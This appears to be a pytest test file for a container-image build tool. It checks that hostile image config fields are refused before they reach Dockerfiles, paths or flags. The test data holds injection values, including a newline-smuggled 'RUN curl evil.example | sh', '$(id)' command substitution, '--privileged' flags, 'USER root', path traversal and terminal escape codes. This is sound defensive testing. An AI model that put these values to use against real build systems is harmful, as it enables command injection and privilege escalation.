"""An image's config is a stranger's text: every field is checked where configs become facts,
so no command makes a path, Dockerfile, flag or label of it (issue: hostile inputs, round 2)."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

import cnbext
from cnbext.cnb.image_config import check_image_config, check_platform_string
from cnbext.engine.models import ImageView, config_section, config_text, env_dict, label_dict
from cnbext.errors import ExitCode, ImageError
from tests.client.fake_engine import FakeEngine
from tests.client.images import (
    BUILD_NAME,
    BUILDER,
    IMAGES,
    RUN,
    RUN_NAME,
    builder_toml,
    extend_toml,
)
from tests.fixtures.malicious import Sentinels

OUT = "localhost:5000/x/out:1"


def _check(**fields: object) -> None:
    values: dict[str, object] = {
        "os": "linux",
        "architecture": "amd64",
        "user": "1000:1000",
        "env": {"PATH": "/usr/bin"},
        "labels": {"io.example": "x"},
    }
    values.update(fields)
    check_image_config("registry.example/evil:1", **values)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("field", "value", "named"),
    [
        ("architecture", "amd64/\nRUN curl evil.example | sh", "architecture"),
        ("architecture", "../../x", "architecture"),
        ("os", "linux/../../etc", "os"),
        ("variant", "v8\nRUN id", "variant"),
        ("user", "1000\nRUN id", "User"),
        ("user", "cnb --privileged", "User"),
        ("user", "$(id):0", "User"),
        ("env", {"CNB_USER_ID": "1000 --privileged"}, "CNB_USER_ID"),
        ("env", {"A=B": "c"}, "Env name"),
        ("env", {"PATH\nX": "c"}, "Env name"),
        ("env", {"X": "a\x00b"}, "Env X"),
        ("labels", {"k=v": "x"}, "Labels name"),
        ("labels", {"io.x\x1b]0;": "x"}, "Labels name"),
        ("labels", {"io.x": "\x00"}, "Labels io.x"),
    ],
)
def test_a_field_no_real_image_has_is_refused_naming_the_image_and_field(
    field: str, value: object, named: str
) -> None:
    with pytest.raises(ImageError) as caught:
        _check(**{field: value})
    assert caught.value.message.startswith("registry.example/evil:1: refusing the image's config")
    assert named in caught.value.message
    assert "\n" not in caught.value.message and "\x1b" not in caught.value.message
    assert caught.value.exit_code is ExitCode.IMAGE


@pytest.mark.parametrize(
    "fields",
    [
        {},
        {"architecture": "arm64", "variant": "v8"},
        {"architecture": "", "os": "", "user": ""},
        {"user": "cnb"},
        {"user": "cnb:cnb"},
        {"os": "windows", "user": "ContainerUser"},
        {"env": {"CNB_USER_ID": "1000", "CNB_GROUP_ID": "1000", "X": "a=b\nc"}},
        {"labels": {"io.buildpacks.builder.metadata": '{"a": "b\\n"}', "multi": "line\nvalue"}},
    ],
)
def test_real_image_configs_pass(fields: dict[str, object]) -> None:
    _check(**fields)


def test_every_problem_is_named_at_once() -> None:
    with pytest.raises(ImageError) as caught:
        _check(architecture="../x", user="a b", labels={"=": ""})
    assert all(word in caught.value.message for word in ("architecture", "User", "Labels"))


def test_a_platform_string_from_an_index_or_layout_is_checked() -> None:
    check_platform_string("x", "linux/arm64/v8")
    with pytest.raises(ImageError, match="architecture"):
        check_platform_string("x", "linux/../../../tmp")


def test_wrong_types_in_a_registry_config_are_refused_not_coerced() -> None:
    with pytest.raises(ImageError, match="Env that is not a list"):
        env_dict("PATH=/bin")
    with pytest.raises(ImageError, match="Labels that are not an object"):
        label_dict(["a", "b"])
    with pytest.raises(ImageError, match="Labels that are not an object"):
        label_dict({"a": {"nested": 1}})
    with pytest.raises(ImageError, match="User that is not a string"):
        config_text(["root"], "User")
    with pytest.raises(ImageError, match="config that is not an object"):
        config_section("x")
    assert label_dict(None) == {} and config_text(None, "os") == "" and env_dict(None) == {}


def _builder_toml(tmp_path: Path) -> Path:
    return builder_toml(tmp_path)


@pytest.mark.parametrize(
    "architecture", ["../../../../victim-dir", "amd64/\nRUN curl evil.example | sh"]
)
def test_create_builder_refuses_a_build_image_architecture_before_writing_anything(
    tmp_path: Path, architecture: str
) -> None:
    sentinels = Sentinels.plant(tmp_path / "host")
    work = tmp_path / "work"
    work.mkdir()
    build = replace(BUILDER, reference=BUILD_NAME, labels={}, architecture=architecture)
    engine = FakeEngine({**IMAGES, BUILD_NAME: build})
    with pytest.raises(ImageError, match=f"{BUILD_NAME}: refusing the image's config"):
        cnbext.create_builder(
            _builder_toml(work), cnbext.BuilderOptions(names=(OUT,)), engine=engine
        )
    assert engine.made() == []
    sentinels.assert_untouched()


def test_extend_refuses_a_user_that_would_reach_a_dockerfile(tmp_path: Path) -> None:
    engine = FakeEngine({RUN_NAME: replace(RUN, user="1000\nUSER root")})
    with pytest.raises(ImageError, match="User"):
        cnbext.extend(extend_toml(tmp_path), cnbext.ExtendOptions(names=(OUT,)), engine=engine)
    assert engine.made() == []


def test_inspect_refuses_a_view_with_a_hostile_platform(tmp_path: Path) -> None:
    view = ImageView(
        reference=OUT,
        source="registry",
        digest=None,
        platforms=("linux/amd64\x1b]0;owned\x07",),
        labels={},
        user="1000:1000",
        env={},
    )
    with pytest.raises(ImageError, match="refusing the image's platform"):
        cnbext.inspect_image(OUT, engine=FakeEngine(registry_views={OUT: view}))
